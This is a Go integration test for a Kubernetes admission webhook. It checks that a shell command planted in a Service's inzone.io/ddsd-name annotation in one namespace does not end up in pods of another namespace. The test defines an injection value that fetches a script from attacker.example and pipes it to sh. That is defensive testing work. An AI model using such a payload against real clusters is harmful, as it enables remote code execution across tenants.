package hostile

import (
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/inzone-io/inzone/elb"
	"github.com/inzone-io/inzone/test/envtest"
)

// TestDDSDNameCommandInjection runs issue 15's attack end to end: a
// LoadBalancer Service in namespace other, whose inzone.io/ddsd-name holds a
// shell command, must not get that command into a pod of namespace shop that
// calls its hostname.
func TestDDSDNameCommandInjection(t *testing.T) {
	const (
		evilELB   = "internal-orders-999.us-east-1.elb.amazonaws.com"
		attack    = "x; curl -s http://attacker.example/p | sh; echo "
		controlLB = "internal-control-123.us-east-1.elb.amazonaws.com"
	)
	env := envtest.For(t)
	other := namespace(t, "other-", false)
	shop := namespace(t, "shop-", true)
	loadBalancer(t, other, "evil", evilELB, map[string]string{elb.AnnotationDDSDName: attack})
	// Created after the attacker's: once its hostname is rewritten, the
	// webhook's informer has seen the attacker's Service too.
	loadBalancer(t, other, "control", controlLB, nil)
	deadline := time.Now().Add(20 * time.Second)
	for {
		pod, _, err := env.DryRunPod(ctx(t), shellPod(shop, "probe", "http://"+controlLB))
		if err != nil {
			t.Fatalf("dry-run: %v", err)
		}
		if strings.Contains(pod.Spec.Containers[0].Command[2], "control.service.prod.ddsd") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the webhook did not learn the control Service's ELB within 20s: %q", pod.Spec.Containers[0].Command)
		}
		time.Sleep(100 * time.Millisecond)
	}

	sent := shellPod(shop, "victim", "http://"+evilELB+"/orders")
	stored, warnings, err := env.CreatePod(ctx(t), sent)
	if err != nil {
		t.Fatalf("creating the pod: %v", err)
	}
	c := stored.Spec.Containers[slices.IndexFunc(stored.Spec.Containers, func(c corev1.Container) bool { return c.Name == "app" })]
	for _, s := range append(slices.Clone(c.Command), c.Env[0].Value) {
		if strings.Contains(s, "attacker") || strings.Contains(s, ";") {
			t.Errorf("the stored pod carries the attacker's text: %q", s)
		}
	}
	if got, want := c.Command[2], sent.Spec.Containers[0].Command[2]; got != want {
		t.Errorf("command = %q, want it unchanged %q", got, want)
	}
	for _, a := range stored.Annotations {
		if strings.Contains(a, "attacker") {
			t.Errorf("an annotation carries the attacker's text: %q", a)
		}
	}
	t.Logf("warnings: %q", warnings)
}
